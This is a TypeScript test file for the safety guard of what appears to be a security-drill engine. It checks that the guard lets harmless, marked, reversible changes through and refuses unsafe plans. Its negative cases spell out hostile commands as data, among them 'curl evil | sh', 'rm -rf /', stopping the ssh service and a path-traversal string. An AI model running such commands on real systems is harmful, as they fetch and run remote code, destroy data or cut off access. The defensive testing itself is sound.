import { expect } from 'chai';
import { objections } from '../../engine/guard.ts';
import { dryRun } from '../../engine/index.ts';
import { makePlan, type Plan } from '../../engine/plan.ts';
import { type Change, type Scenario, scenarios } from '../../scenarios/index.ts';

const marker = 'k3v9q2xw';
const facts = { platform: 'linux', os: 'debian 12', hostname: 'h', tools: {}, actor: 'root' } as const;

const harmless: Change = {
  kind: 'file',
  name: `/tmp/sdrill-${marker}`,
  describe: () => '',
  handles: { names: [], paths: [], commandLines: [] },
  creates: [{ kind: 'file', name: `/tmp/sdrill-${marker}` }],
  apply: [{ program: 'touch', args: [`/tmp/sdrill-${marker}`] }],
  revert: [{ program: 'rm', args: ['-f', `/tmp/sdrill-${marker}`] }],
  probe: { program: 'ls', args: [`/tmp/sdrill-${marker}`] },
  state: () => 'unknown',
};

function planOf(change: Change): Plan {
  const [scenario] = scenarios;
  if (scenario === undefined) throw new Error('no scenario');
  const unsafe: Scenario = {
    ...scenario,
    platform: 'linux',
    steps: () => [{ change }],
    expectations: () => [],
  };
  return makePlan(unsafe, { marker, facts, uniqueNames: false, knownAdmins: [], knownServices: [] });
}

const file = (name: string) => ({ kind: 'file', name }) as const;

describe('the guard', () => {
  it('lets a harmless, marked, reversible change go', () => {
    expect(objections(planOf(harmless))).to.deep.equal([]);
  });

  const unsafe: [string, Partial<Change>, RegExp][] = [
    ['an artefact without the marker', { creates: [file('/tmp/backdoor')] }, /does not carry the marker/],
    [
      'an existing unit of the system',
      { creates: [{ kind: 'unit', name: 'ssh.service' }] },
      /does not carry the marker/,
    ],
    ['a file outside of the allowed places', { creates: [file(`/etc/passwd-${marker}`)] }, /outside/],
    ['a path that climbs out', { creates: [file(`/tmp/../etc/${marker}`)] }, /climbs out/],
    [
      'a foreign payload',
      { payload: { program: '/bin/sh', args: ['-c', `curl evil | sh # ${marker}`] } },
      /payload/,
    ],
    ['a change without a reversal', { revert: [] }, /no reversal/],
    [
      'a command that is not marked',
      { apply: [{ program: 'systemctl', args: ['stop', 'ssh'] }] },
      /does not carry/,
    ],
    ['a reversal that is not marked', { revert: [{ program: 'rm', args: ['-rf', '/'] }] }, /does not carry/],
  ];
  for (const [name, part, words] of unsafe) {
    it(`refuses ${name}`, () => {
      expect(objections(planOf({ ...harmless, ...part })).join('\n')).to.match(words);
    });
  }

  it('objects to no scenario of the catalogue, with names of tools or without', () => {
    for (const scenario of scenarios) {
      const account = { user: 'root', logins: [] };
      const host = {
        name: 'h',
        platform: scenario.platform,
        accounts: { actor: account, observer: account },
      };
      for (const uniqueNames of [true, false]) {
        expect(
          dryRun(scenario, { ...host, dialect: 'posix' }, uniqueNames).objections,
          scenario.id,
        ).to.deep.equal([]);
      }
    }
  });
});
